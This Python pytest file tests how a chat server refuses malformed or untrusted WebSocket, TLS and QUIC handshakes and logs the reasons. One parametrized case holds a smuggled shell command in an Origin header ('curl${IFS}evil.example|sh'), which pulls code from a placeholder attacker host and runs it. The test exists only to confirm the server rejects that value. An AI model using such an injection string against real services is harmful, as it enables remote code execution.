"""Who is refused before there is a connection: whoever runs the server is told why, and what helps. Real sockets."""

from __future__ import annotations

import asyncio
import logging
import ssl
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from chatcore import ConnectionFailed, Limits, Listen, connect
from chatcore.ports.transport import ConnectOptions, ListenOptions
from tests.integration.quic_hostile import hostile
from tests.integration.ws_peer import Peer, request
from tests.patience import PATIENCE
from tests.stores import ChatServer

PROXY_PROTOCOL = (
    "it is a proxy that speaks the PROXY protocol, and the server does not; let it add X-Forwarded-For, and name it "
    "with --trust-proxy"
)
NO_REQUEST = "it sends no HTTP request of 16384 bytes or less without a body"


class Told(logging.Handler):
    """Takes down what a server says of those whom it turns away."""

    def __init__(self) -> None:
        super().__init__()
        self.fields: list[dict[str, Any]] = []
        self.news = asyncio.Event()

    def emit(self, record: logging.LogRecord) -> None:
        """Take a record."""
        if record.getMessage() == "turned_away":
            fields = record.__dict__["fields"]
            assert record.levelno == (logging.INFO if "TLS" in fields["why"] else logging.WARNING)
            self.fields.append(fields)
            self.news.set()

    async def next(self) -> dict[str, Any]:
        """Wait for a record."""
        async with asyncio.timeout(PATIENCE):
            await self.news.wait()
        self.news.clear()
        return self.fields.pop(0)


@asynccontextmanager
async def serving(transport: str, **options: Any) -> AsyncIterator[tuple[ChatServer, int, Told]]:
    """Serve the chat; gives the port, and what is told."""
    told, logger = Told(), logging.Logger("test")
    logger.addHandler(told)
    place = Listen(transport, "chat", ListenOptions(port=0, **options))
    async with ChatServer(listen=[place], limits=Limits(grace=0), logger=logger) as server:
        yield server, int(server.urls[0].rpartition(":")[2]), told


async def answer_to(port: int, data: bytes) -> bytes:
    """Say something, and return what comes until the server hangs up."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(data)
    answer = await reader.read()
    writer.close()
    await writer.wait_closed()
    return answer


def asking(host: str, *more: str, change: Callable[[bytes], bytes] = bytes) -> bytes:
    """Return a handshake, changed."""
    return change(request(host, *more))


@pytest.mark.parametrize(
    ("data", "status", "why"),
    [
        (
            asking("127.0.0.1", "Origin: http://page.example:8000"),
            b"403",
            "pages of http://page.example:8000 may not connect; if you trust them, start the server with "
            "--origin http://page.example:8000",
        ),
        (
            asking("evil.example"),
            b"403",
            "a server on loopback is not called evil.example; if your proxy calls it so, start it with "
            "--origin https://evil.example",
        ),
        (
            b"GET /.well-known/chatcore HTTP/1.1\r\nHost: evil.example\r\n\r\n",
            b"403",
            "a server on loopback is not called evil.example; if your proxy calls it so, start it with "
            "--origin https://evil.example",
        ),
        (
            asking("127.0.0.1", "Origin: http://page.example;curl${IFS}evil.example|sh"),
            b"403",
            "it comes from, or goes to, something that is no address",
        ),
        (
            asking("127.0.0.1", change=lambda data: data.replace(b"Version: 13", b"Version: 12")),
            b"426",
            "its WebSocket handshake is wrong: invalid Sec-WebSocket-Version header: 12",
        ),
        (
            asking("127.0.0.1", change=lambda data: data.replace(b"dGhlIHNhbXBsZSBub25jZQ==", b"short")),
            b"400",
            "its WebSocket handshake is wrong: invalid Sec-WebSocket-Key header: short",
        ),
        (asking("127.0.0.1", "X: " + "x" * 20_000), b"431", NO_REQUEST),
        (b'{"type":"login","username":"alice"}', b"400", NO_REQUEST),
        (b"hello\r\n\r\n", b"400", NO_REQUEST),
        (b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 3\r\n\r\nabc", b"400", NO_REQUEST),
        (b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", b"400", NO_REQUEST),
        (b"GET / HTTP/1.1\r\nHost : 127.0.0.1\r\n\r\n", b"400", NO_REQUEST),
        (b"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n" + request(), b"", PROXY_PROTOCOL),
        (b"\r\n\r\n\x00\r\nQUIT\n\x20\x00\x00\x00" + request(), b"", PROXY_PROTOCOL),
    ],
)
async def test_handshake_that_is_refused_is_told_with_what_would_help(data: bytes, status: bytes, why: str) -> None:
    async with serving("ws") as (_server, port, told):
        answer = await answer_to(port, data)
        assert answer[9:12] == status
        fields = await told.next()
        assert fields.pop("address").startswith("127.0.0.1:")
        assert fields == {"why": why, "transport": "ws"}


async def test_who_speaks_another_version_of_websocket_is_told_which_one_there_is() -> None:
    """RFC 6455, section 4.4."""
    async with serving("ws") as (_server, port, _told):
        answer = await answer_to(port, asking("127.0.0.1", change=lambda data: data.replace(b"n: 13", b"n: 8")))
        assert b"\r\nSec-WebSocket-Version: 13\r\n" in answer
        assert b"\r\nUpgrade: websocket\r\n" in answer


async def test_port_without_tls_tells_who_speaks_it_and_lets_nobody_wait() -> None:
    """A client of ours says so too."""
    async with serving("ws") as (_server, port, told):
        with pytest.raises(ConnectionFailed, match="hung up before it opened a WebSocket; is it a wss:// server"):
            await connect(f"wss://127.0.0.1:{port}", username="alice", options=ConnectOptions(connect_timeout=2.0))
        assert (await told.next())["why"] == "it speaks TLS; use ws:// there, or start the server with --tls"


@pytest.mark.parametrize("dialect", ["chat", "simple-json"])
async def test_client_that_calls_a_websocket_over_tcp_is_answered_at_once(dialect: str) -> None:
    """One try is enough: it hears what no server of its dialect says."""
    async with serving("ws") as (_server, port, told):
        with pytest.raises(ConnectionFailed, match="the server sent something unreadable"):
            await connect(f"tcp+{dialect}://127.0.0.1:{port}", username="alice")
        assert (await told.next())["why"] == NO_REQUEST
        assert told.fields == []


async def test_port_that_wants_tls_tells_who_speaks_none(tmp_path: Path) -> None:
    """And who speaks it, but does not trust the server's own certificate yet, is no mistake."""
    async with serving("ws", tls_own=True, state_dir=str(tmp_path)) as (_server, port, told):
        await answer_to(port, request())
        assert (await told.next())["why"] == "it speaks no TLS, and this port nothing else; use wss:// there"
        with pytest.raises(ssl.SSLError):
            await asyncio.open_connection("127.0.0.1", port, ssl=ssl.create_default_context())
        assert told.fields == []


async def test_port_that_a_client_has_no_tls_in_common_with_tells_so(tmp_path: Path) -> None:
    """An old browser, say; whoever runs the server would look for the reason in vain."""
    async with serving("ws", tls_own=True, state_dir=str(tmp_path)) as (_server, port, told):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.maximum_version = ssl.TLSVersion.TLSv1_2
        context.set_ciphers("ECDHE-RSA-AES128-GCM-SHA256")  # the key is one for P-256
        with pytest.raises(ConnectionError):
            await asyncio.open_connection("127.0.0.1", port, ssl=context)
        assert "it knows no TLS that this server can speak with its key (NO_SHARED_CIPHER)" in str(
            (await told.next())["why"]
        )


async def test_who_only_looks_what_there_is_is_no_mistake() -> None:
    """A browser reads that this is no page; something that watches the port comes again and again."""
    async with serving("ws") as (_server, port, told):
        assert b" 426 " in await answer_to(port, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        assert told.fields == []


async def test_full_server_tells_it() -> None:
    async with serving("ws", max_connections=1) as (_server, port, told), Peer(f"ws://127.0.0.1:{port}") as peer:
        await peer.upgrade()
        assert b" 503 " in await answer_to(port, request())
        assert "--max-connections" in (await told.next())["why"]


async def test_session_that_is_refused_over_quic_is_told(tmp_path: Path) -> None:
    async with serving("quic", state_dir=str(tmp_path)) as (_server, port, told), hostile(port) as peer:
        for changes, status, why in (
            ({"origin": "https://page.example"}, "403", "start the server with --origin https://page.example"),
            ({"__path": "/other"}, "404", "it asks for another path than /chat"),
            ({"__protocol": "websocket"}, "501", "it asks for another protocol than WebTransport"),
        ):
            assert await peer.ask(**changes) == status
            fields = await told.next()
            assert fields["why"].endswith(why)
            assert fields["transport"] == "quic"


async def test_flood_of_refusals_is_a_line_a_second_with_their_number() -> None:
    """Each with another origin."""
    async with serving("ws") as (_server, port, told):
        for number in range(50):
            await answer_to(port, request("127.0.0.1", f"Origin: http://{number}.example"))
        assert (await told.next())["why"].startswith("pages of http://0.example ")
        count = len(told.fields) + sum(fields.get("held_back", 0) for fields in told.fields)
        assert len(told.fields) < 10
        assert count <= 49


async def test_page_learns_from_what_the_server_says_of_itself_whether_it_may_connect() -> None:
    """A browser tells it nothing else."""
    async with serving("ws", origins=("http://friend.example",)) as (_server, port, _told):
        for origin, allowed in (("http://friend.example", b"true"), ("http://page.example", b"false")):
            head = f"GET /.well-known/chatcore HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nOrigin: {origin}\r\n\r\n"
            answer = await answer_to(port, head.encode())
            assert b"Access-Control-Allow-Origin: *" in answer
            assert b'"allowed": ' + allowed in answer
        assert b'"page"' not in await answer_to(port, b"GET /.well-known/chatcore HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")


async def test_program_is_told_in_the_servers_words_why_it_is_refused() -> None:
    """Such as one that knows a server on its own machine by a name of its own."""

    async def proxy(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        writer.write(await answer_to(port, head.replace(b"Host: 127.0.0.1", b"Host: chat.example")))
        writer.close()
        await writer.wait_closed()

    async with serving("ws") as (_server, port, _told), await asyncio.start_server(proxy, "127.0.0.1", 0) as between:
        place = between.sockets[0].getsockname()[1]
        with pytest.raises(ConnectionFailed) as caught:
            await connect(f"ws://127.0.0.1:{place}", username="alice")
        assert str(caught.value) == (
            f"127.0.0.1:{place} answered HTTP 403 Forbidden instead of opening a WebSocket: This server does not know "
            "itself by this name; its --origin https://NAME says that it does"
        )
